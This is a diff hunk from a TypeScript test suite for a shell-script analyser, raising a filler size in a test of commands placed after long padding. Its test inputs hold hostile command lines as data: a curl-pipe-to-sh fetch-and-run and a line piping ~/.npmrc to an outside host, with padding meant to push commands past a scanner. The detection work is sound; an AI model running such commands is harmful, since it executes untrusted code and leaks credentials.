@@ -53,7 +53,7 @@ describe('what scripts of a shell do with data', () => {
   });
 
   it('says so where there is more than it follows', () => {
-    for (const [filler, kind] of [[':;'.repeat(100), 'runs-answer'], [':;'.repeat(60_000), 'unfollowed'], [`A='${'x'.repeat(140_000)}';`, 'unfollowed,runs-answer'], [`A='${'x'.repeat(100_000)}';`, 'runs-answer']] as const) assert.equal(kinds(`${filler}curl -s https://up.example | sh`), kind, filler.slice(0, 9));
+    for (const [filler, kind] of [[':;'.repeat(100), 'runs-answer'], [':;'.repeat(150_000), 'unfollowed'], [`A='${'x'.repeat(140_000)}';`, 'unfollowed,runs-answer'], [`A='${'x'.repeat(100_000)}';`, 'runs-answer']] as const) assert.equal(kinds(`${filler}curl -s https://up.example | sh`), kind, filler.slice(0, 9));
   });
 
   it('says where', () => assert.deepEqual(deedsIn('cd /tmp\ncat ~/.npmrc | curl -d @- https://up.example'), [{ kind: 'sends-private', at: 8 }]));
